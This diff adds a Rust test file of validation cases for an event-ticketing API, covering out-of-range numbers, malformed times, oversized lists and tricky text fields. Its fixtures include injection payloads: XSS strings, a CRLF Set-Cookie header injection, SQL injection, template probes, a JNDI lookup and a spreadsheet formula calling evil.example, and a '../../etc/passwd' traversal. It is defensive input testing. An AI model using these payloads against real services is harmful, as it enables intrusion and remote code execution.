@@ -1,0 +1,205 @@
+//! Fields of an event: numbers, times, texts and lists that go beyond what they may be.
+
+use serde_json::{Value, json};
+use tests::sample;
+
+use crate::case::{Case, table};
+
+pub fn refused() -> Vec<Case> {
+    let of = |kind: &'static str, pointer: &'static str, cases: &[(&str, &str)]| {
+        table(cases, "C_001", |name, json, code| Case::field(format!("{kind} {name}"), pointer, json, code))
+    };
+    [
+        of("price", "/areas/0/price", PRICES),
+        of("coordinate", "/areas/0/seats/0/cx", COORDINATES),
+        of("row", "/areas/0/seats/0/row", POSITIONS),
+        of("time", "/eventOpenTime", TIMES),
+        of("title", "/title", LINES),
+        of("place", "/place", LINES),
+        of("description", "/description", PARAGRAPHS),
+        of("areas", "/areas", LISTS),
+        of("dates", "/eventDatetimes", LISTS),
+        of("map", "/totalMap", MAPS),
+        table(NO_NUMBERS, "C_002", |name, json, code| {
+            Case::field(format!("price {name}"), "/areas/0/price", json, code)
+        }),
+        many(),
+    ]
+    .concat()
+}
+
+pub fn accepted() -> Vec<Case> {
+    let of = |kind: &'static str, pointer: &'static str, cases: &[(&str, &str)]| {
+        table(cases, "0", |name, json, code| Case::field(format!("{kind} {name}"), pointer, json, code))
+    };
+    [
+        of("price", "/areas/0/price", NUMBERS),
+        of("coordinate", "/areas/0/seats/0/cx", NUMBERS),
+        of("row", "/areas/0/seats/0/row", NUMBERS),
+        of("title", "/title", TEXTS),
+        of("artist", "/artist", TEXTS),
+    ]
+    .concat()
+}
+
+/// Lists that are one too long, or name the same thing twice.
+fn many() -> Vec<Case> {
+    let seats = |count: u32| -> Value {
+        (0..count).map(|number| json!({"cx": 0, "cy": 0, "row": 1, "number": number})).collect()
+    };
+    let area = |label: &str| json!({"label": label, "price": 0, "areaMap": "/a", "seats": []});
+    let with = |name: &str, pointer: &str, value: Value| {
+        let mut event = sample::event();
+        *event.pointer_mut(pointer).unwrap() = value;
+        Case::event(name, &event, "C_001")
+    };
+    vec![
+        with("a seat more than a hall has", "/areas/0/seats", seats(25_000)),
+        with(
+            "a seat sold twice",
+            "/areas/0/seats",
+            [seats(9), seats(1)].iter().flat_map(|seats| seats.as_array().unwrap().clone()).collect(),
+        ),
+        with(
+            "a seat sold twice in another notation",
+            "/areas/0/seats/1",
+            json!({"cx": 1, "cy": 1, "row": 1.0, "number": 10e-1}),
+        ),
+        with("an area more than there may be", "/areas", (0..201).map(|n| area(&n.to_string())).collect()),
+        with("two areas of one label", "/areas", json!([area("a"), area("a")])),
+        with("a date more than there may be", "/eventDatetimes", (0..61).collect()),
+        with("a date twice in another notation", "/eventDatetimes", json!([0, "1970-01-01T09:00:00+09:00"])),
+        with("a label of another drawing", "/areas/0/label", json!("<svg/onload=alert(1)>".repeat(3))),
+        with("drawings of a byte too much", "/totalMap", json!(format!("/{}", "a".repeat(1_048_576)))),
+    ]
+}
+
+const PRICES: &[(&str, &str)] = &[
+    ("beyond every number", "1e999999"),
+    ("beyond every exponent", "1e99999999999999999999"),
+    ("below nothing by a little", "-0.01"),
+    ("below nothing by much", "-1e999999"),
+    ("of three decimals", "0.001"),
+    ("of infinitely many decimals", "1e-999999"),
+    ("of a cent too much", "1000000000.01"),
+    ("in a text", "\"132000\""),
+    ("in an array", "[132000]"),
+    ("in an object", "{\"N\":\"132000\"}"),
+    ("that is true", "true"),
+];
+
+const COORDINATES: &[(&str, &str)] = &[
+    ("beyond every number", "1e999999"),
+    ("just beyond the limit", "1000000.0000001"),
+    ("far below", "-1e308"),
+    ("in a text", "\"1\""),
+    ("that is nothing", "null"),
+    ("of markup", "\"0' onload='alert(1)\""),
+];
+
+const POSITIONS: &[(&str, &str)] = &[
+    ("beyond every number", "1e999999"),
+    ("one too high", "2147483648"),
+    ("of all bits", "4294967296"),
+    ("of more bits than there are", "18446744073709551617"),
+    ("below nothing", "-1"),
+    ("of a half", "1.5"),
+    ("of a trace", "1.0000000000000000000000001"),
+    ("of a tenth", "1e-1"),
+    ("in a text", "\"1\""),
+];
+
+const TIMES: &[(&str, &str)] = &[
+    ("beyond every number", "1e999999"),
+    ("before the first", "-1"),
+    ("before the first by a trace", "-0.000000001"),
+    ("after the last", "253402300800"),
+    ("of ten decimals", "1.0000000001"),
+    ("of a day alone", "\"2025-04-18\""),
+    ("without offset", "\"2025-04-18T14:00:00\""),
+    ("with an offset of four days", "\"2025-04-18T14:00:00+99:00\""),
+    ("in a year of five digits", "\"+12025-04-18T14:00:00Z\""),
+    ("in a year before the first", "\"-2025-04-18T14:00:00Z\""),
+    ("on a day that is none", "\"2025-02-30T00:00:00Z\""),
+    ("of ten decimals in a text", "\"2025-04-18T14:00:00.0000000001Z\""),
+    ("with a NUL", "\"2025-04-18T14:00:00Z\\u0000\""),
+    ("in full width", "\"２０２５-04-18T14:00:00Z\""),
+    ("in a text of a number", "\"1745557200\""),
+    ("that is an object", "{\"$date\":0}"),
+];
+
+const LINES: &[(&str, &str)] = &[
+    ("with a header", "\"a\\r\\nSet-Cookie: b=c\""),
+    ("with a NUL", "\"a\\u0000\""),
+    ("with an escape sequence", "\"\\u001b]0;a\\u0007\""),
+    ("with a next line", "\"a\\u0085b\""),
+    ("with a tab", "\"a\\tb\""),
+    ("of white space of every kind", "\"\\u3000\\u2000\\u00a0\\n\""),
+    ("that is a number", "1"),
+    ("that is an object", "{\"toString\":\"a\"}"),
+];
+
+const PARAGRAPHS: &[(&str, &str)] = &[
+    ("with a NUL", "\"a\\u0000\""),
+    ("with an escape sequence", "\"\\u001b[2J\""),
+    ("with a deletion", "\"\\u007f\""),
+    ("that is an array of texts", "[\"a\"]"),
+];
+
+const LISTS: &[(&str, &str)] = &[
+    ("that are nothing", "null"),
+    ("that are none", "[]"),
+    ("that are a text", "\"[]\""),
+    ("that are an object with a length", "{\"length\":1,\"0\":{}}"),
+    ("in arrays", "[[[]]]"),
+    ("that are nothing each", "[null,null]"),
+    ("with a prototype", "[{\"__proto__\":{}}]"),
+];
+
+const MAPS: &[(&str, &str)] = &[
+    ("that is a number", "1"),
+    ("that is an object", "{\"svg\":\"<svg/>\"}"),
+    (
+        "with a script in escapes",
+        "\"\\u003csvg\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\\u003c/svg\\u003e\"",
+    ),
+    ("with a NUL in escapes", "\"<svg>\\u0000</svg>\""),
+    ("with a byte order mark in escapes", "\"\\ufeff<svg/>\""),
+];
+
+/// What makes the whole body no JSON.
+const NO_NUMBERS: &[(&str, &str)] = &[
+    ("that is no number", "NaN"),
+    ("that is infinite", "-Infinity"),
+    ("in hexadecimal digits", "0x1"),
+    ("with a zero before it", "01"),
+    ("with a comma in it", "132,000"),
+    ("that ends the object", "1}],\"areas\":[{"),
+];
+
+/// One, in notations that a careless reader stumbles over, and nothing.
+const NUMBERS: &[(&str, &str)] = &[
+    ("of nothing below nothing", "-0"),
+    ("of nothing with a huge exponent", "0e999999"),
+    ("of nothing below, of many parts", "-0.000e-999999"),
+    ("with an exponent", "1E+0"),
+    ("with a fraction of nothing", "1.000"),
+    ("shifted up", "0.001e3"),
+    ("shifted down", "1000e-3"),
+];
+
+/// Texts that are only texts.
+const TEXTS: &[(&str, &str)] = &[
+    ("of markup", "\"<script>alert(1)</script>\""),
+    ("that ends an attribute", "\"' onload='alert(1)\\\"><svg/onload=alert(1)>\""),
+    ("that ends a title", "\"</title><image href=x onerror=alert(1)>]]>-->\""),
+    ("of a template", "\"{{7*7}}${7*7}<%= 7*7 %>#{7*7}\""),
+    ("of a statement", "\"'; DROP TABLE events; --\""),
+    ("of a formula", "\"=HYPERLINK(\\\"https://evil.example\\\")\""),
+    ("of a lookup", "\"${jndi:ldap://evil.example/a}\""),
+    ("of a path", "\"../../etc/passwd\""),
+    ("of a key", "\"EVENT#1\""),
+    ("the other way round", "\"\\u202egnp.exe\\u2066\""),
+    ("of nothing to be seen", "\"\\u200b\\ufeff\\u00ad\""),
+    ("of noncharacters", "\"\\uffff\\ufffe\""),
+];
